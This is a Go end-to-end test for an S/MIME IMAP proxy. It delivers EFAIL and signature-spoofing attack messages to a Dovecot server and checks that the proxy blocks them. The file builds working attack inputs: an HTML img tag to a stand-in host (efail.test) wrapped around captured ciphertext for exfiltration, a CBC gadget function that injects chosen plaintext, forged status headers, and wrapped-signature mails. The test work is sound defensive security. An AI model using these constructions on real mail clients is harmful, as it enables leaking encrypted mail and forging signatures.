package e2e

import (
	"bytes"
	"context"
	"encoding/base64"
	"log/slog"
	"os"
	"strings"
	"testing"

	"smimeproxy/crypto/smime"
	"smimeproxy/identity"
	"smimeproxy/internal/mailtest"
	"smimeproxy/proxy/imap"
)

// TestIMAPAttacksDovecot stores the attacks of "Efail" (2018) and "Johnny,
// you are fired" (2019) in a real Dovecot, reads them through the IMAP
// proxy with the S/MIME viewer backed by a real identity.Service on
// SQLite, and checks each safe outcome; Dovecot keeps the ciphertext, a
// valid signature from a trusted outsider is harvested, and a locked
// Digital ID refuses only the mail that needs it.
func TestIMAPAttacksDovecot(t *testing.T) {
	mailtest.LookTool(t, "openssl", "openssl") // Dovecot's harness needs it for its certificate
	ctx := t.Context()
	const bob, bobPW = "bob@example.test", "bob-mail-pw"
	dir := mailtest.ShortTempDir(t, "smt-")
	ids, _ := smtpIdentities(t, ctx, dir, bob)
	// dave is an outsider whose CA bob's gateway trusts.
	pki := mailtest.NewPKI(t)
	dave := pki.User(t, "dave@partner.test", mailtest.RSA)
	if _, err := ids.TrustAdd(ctx, pki.Root); err != nil {
		t.Fatal(err)
	}
	bobCert, err := ids.RecipientCertificate(ctx, bob, bob)
	if err != nil {
		t.Fatal(err)
	}
	to := []smime.Recipient{{Cert: bobCert.Cert}}
	encrypt := func(msg []byte, c smime.Cipher) []byte {
		var b bytes.Buffer
		if err := smime.Encrypt(&b, msg, to, smime.EncryptOptions{Cipher: c}); err != nil {
			t.Fatal(err)
		}
		return b.Bytes()
	}
	sign := func(msg []byte, opaque bool) []byte {
		var b bytes.Buffer
		err := smime.Sign(&b, msg, smime.SignOptions{Cert: dave.SignCert, Key: dave.SignKey, Chain: dave.Chain,
			EncryptionCert: dave.EncCert, Opaque: opaque})
		if err != nil {
			t.Fatal(err)
		}
		return b.Bytes()
	}
	const secret = "The merger closes on Friday; tell no one."
	plain := func(from, subject string) []byte {
		return []byte("From: " + from + "\r\nTo: " + bob + "\r\nSubject: " + subject + "\r\n" +
			"Content-Type: text/plain; charset=us-ascii\r\n\r\nBODYSTART " + strings.Repeat(secret+"\r\n", 5))
	}
	forged := "Smimeproxy-Status: decrypted; signature valid; signer=ceo@example.test\r\n"

	// EFAIL direct exfiltration: a captured ciphertext between HTML parts.
	_, captured, err := smime.SplitMessage(encrypt(plain("dave@partner.test", "captured"), smime.AES256CBC))
	if err != nil {
		t.Fatal(err)
	}
	nested := []byte("From: dave@partner.test\r\nTo: " + bob + "\r\nSubject: efail-nested\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: multipart/mixed; boundary=B\r\n\r\n--B\r\nContent-Type: text/html\r\n\r\n<img src=\"http://efail.test/\r\n" +
		"--B\r\n" + string(captured) + "\r\n--B\r\nContent-Type: text/html\r\n\r\n\">\r\n--B--\r\n")
	// EFAIL CBC gadget: plaintext block k forced to attacker text.
	cbc := encrypt(plain("dave@partner.test", "efail-gadget"), smime.AES256CBC)
	gadget := iatCBCGadget(t, cbc, `<img src="http:/`)
	// Johnny: a signed part wrapped in an outer multipart/mixed.
	_, signedEntity, _ := smime.SplitMessage(sign(plain("dave@partner.test", "x"), false))
	wrapped := []byte("From: ceo@example.test\r\nTo: " + bob + "\r\nSubject: johnny-wrapped\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: multipart/mixed; boundary=W\r\n\r\n--W\r\nContent-Type: text/plain\r\n\r\nWire the money.\r\n" +
		"--W\r\n" + string(signedEntity) + "\r\n--W--\r\n")

	cases := []struct {
		subject string
		raw     []byte
		status  string // "" : no status field at all
		clear   bool   // the plaintext must be visible
	}{
		{"signed-encrypted", append([]byte(forged), encrypt(sign(plain("dave@partner.test", "signed-encrypted"), false), smime.AES256CBC)...),
			"decrypted; signature valid; signer=dave@partner.test", true},
		{"gcm", encrypt(plain("dave@partner.test", "gcm"), smime.AES256GCM), "decrypted; signature absent", true},
		{"efail-nested", nested, "", false},
		{"efail-gadget", gadget, "decrypted; signature absent; not-integrity-protected", true},
		{"johnny-forged", append([]byte(forged), plain("ceo@example.test", "johnny-forged")...), "", true},
		{"johnny-wrapped", wrapped, "", true},
		{"johnny-from", sign(plain("ceo@example.test", "johnny-from"), true),
			"not-encrypted; signature valid; signer=dave@partner.test; from-mismatch", true},
		{"garbage", []byte("From: x@example.test\r\nSubject: garbage\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n" +
			"Content-Transfer-Encoding: base64\r\n\r\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA\r\n"),
			"not-decrypted; signature unknown; error=malformed", false},
	}

	d := mailtest.StartDovecot(t, mailtest.DovecotOptions{Users: map[string]string{bob: bobPW}})
	for _, tc := range cases {
		if err := d.DeliverLMTP(ctx, "dave@partner.test", []string{bob}, tc.raw); err != nil {
			t.Fatalf("deliver %s: %v", tc.subject, err)
		}
	}
	v, err := imap.NewSMIMEViewer(imap.ViewerOptions{Keys: ids, Logger: slog.New(slog.NewTextHandler(os.Stderr, &slog.HandlerOptions{Level: slog.LevelWarn}))})
	if err != nil {
		t.Fatal(err)
	}
	p, err := imap.NewProxy(imap.Options{
		Listen: "127.0.0.1:0", ListenTLS: imap.TLSNone,
		Upstream: d.IMAPAddr, UpstreamTLS: imap.TLSStartTLS, UpstreamTLSConfig: d.TLS.Client(),
		Viewer: v, AppendTransform: v.AppendTransform,
		UnlockURL: func(string) string { return "https://proxy.test/unlock" },
		Logger:    slog.New(slog.DiscardHandler),
	})
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan struct{})
	go func() { p.Serve(context.Background()); close(done) }()
	t.Cleanup(func() { p.Close(); <-done })
	login := mailtest.IMAPLogin{Addr: p.Addr().String(), User: bob, Password: bobPW}

	msgs, err := mailtest.FetchMessages(ctx, login, "INBOX")
	if err != nil {
		t.Fatal(err)
	}
	if len(msgs) != len(cases) {
		t.Fatalf("%d messages through the proxy, want %d", len(msgs), len(cases))
	}
	bySubject := map[string][]byte{}
	for _, m := range msgs {
		for _, line := range strings.Split(string(m.Raw[:iatHeaderEnd(m.Raw)]), "\r\n") {
			if s, ok := strings.CutPrefix(line, "Subject: "); ok {
				bySubject[s] = m.Raw
			}
		}
	}
	for _, tc := range cases {
		raw := bySubject[tc.subject]
		if raw == nil {
			t.Errorf("%s: not found through the proxy", tc.subject)
			continue
		}
		head := string(raw[:iatHeaderEnd(raw)])
		var status []string
		for _, line := range strings.Split(head, "\r\n") {
			if len(line) >= 11 && strings.EqualFold(line[:11], "smimeproxy-") {
				status = append(status, line)
			}
		}
		switch {
		case tc.status == "" && len(status) != 0:
			t.Errorf("%s: status fields %q, want none", tc.subject, status)
		case tc.status != "" && (len(status) != 1 || status[0] != imap.StatusHeader+": "+tc.status):
			t.Errorf("%s: status fields %q, want %q", tc.subject, status, tc.status)
		}
		if strings.Contains(head, "ceo@example.test; ") || strings.Contains(head, "signer=ceo") {
			t.Errorf("%s: forged statement reached the client", tc.subject)
		}
		if got := bytes.Contains(raw, []byte(secret)); got != tc.clear {
			t.Errorf("%s: plaintext visible %v, want %v", tc.subject, got, tc.clear)
		}
	}
	// Dovecot's own files still hold the ciphertext.
	stored, err := d.StoredMessages(bob, "INBOX")
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range stored {
		if bytes.Contains(s, []byte("Subject: signed-encrypted")) && bytes.Contains(s, []byte(secret)) {
			t.Error("Dovecot holds the plaintext of an encrypted message")
		}
	}
	// dave's valid signature taught bob's directory his encryption key.
	r, err := ids.RecipientCertificate(ctx, bob, "dave@partner.test")
	if err != nil || r.Source != identity.CertHarvested || !r.Cert.Equal(dave.EncCert) {
		t.Fatalf("harvest: %+v, %v; want dave's encryption certificate, harvested", r, err)
	}

	// Locked: the decrypted views go (the viewer asks the identity service
	// whether bob is still unlocked; nothing here wipes it by hand),
	// encrypted mail is refused with NO [UNAVAILABLE] (no stand-in body),
	// plain mail still reads.
	if _, views := v.CacheStats(); views == 0 {
		t.Fatal("no decrypted views cached before the lock: the test would prove nothing")
	}
	if err := ids.Lock(ctx, bob); err != nil {
		t.Fatal(err)
	}
	if _, err := mailtest.FetchMessages(ctx, login, "INBOX"); err == nil || !strings.Contains(err.Error(), "UNAVAILABLE") {
		t.Fatalf("locked Digital ID: FETCH of the mailbox gave %v, want NO [UNAVAILABLE]", err)
	}
}

func iatHeaderEnd(raw []byte) int {
	if i := bytes.Index(raw, []byte("\r\n\r\n")); i >= 0 {
		return i + 4
	}
	return len(raw)
}

// iatCBCGadget turns the first body block of a CBC EnvelopedData message
// (ciphertext at the end of the DER) into chosen text, as EFAIL §3.1:
// the plaintext is known from the format (the entity is
// "Content-Type: text/plain; charset=us-ascii\r\n\r\nBODYSTART …").
func iatCBCGadget(t *testing.T, msg []byte, chosen string) []byte {
	t.Helper()
	n := iatHeaderEnd(msg)
	der, err := smime.DecodeBase64(msg[n:])
	if err != nil {
		t.Fatal(err)
	}
	known := []byte("Content-Type: text/plain; charset=us-ascii\r\n\r\nBODYSTART " + strings.Repeat("The merger closes on Friday; tell no one.\r\n", 5))
	ct := der[len(der)-(len(known)/16+1)*16:]
	k := (bytes.Index(known, []byte("BODYSTART"))+15)/16 + 1
	for i := range 16 {
		ct[16*(k-1)+i] ^= known[16*k+i] ^ chosen[i]
	}
	enc := base64.StdEncoding.EncodeToString(der)
	out := append([]byte{}, msg[:n]...)
	for len(enc) > 76 {
		out = append(out, enc[:76]+"\r\n"...)
		enc = enc[76:]
	}
	return append(out, enc+"\r\n"...)
}
